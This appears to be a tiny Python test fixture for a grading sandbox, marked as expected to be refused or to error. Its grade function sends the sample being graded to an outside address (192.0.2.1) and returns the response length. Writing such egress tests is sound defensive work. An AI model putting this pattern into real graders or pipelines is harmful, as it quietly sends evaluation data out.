# expect: refused or error
"""Sends what it saw to somebody."""

import urllib.request


def grade(sample, item):
    with urllib.request.urlopen("http://192.0.2.1/", data=str(sample).encode(), timeout=1) as answer:
        return len(answer.read())
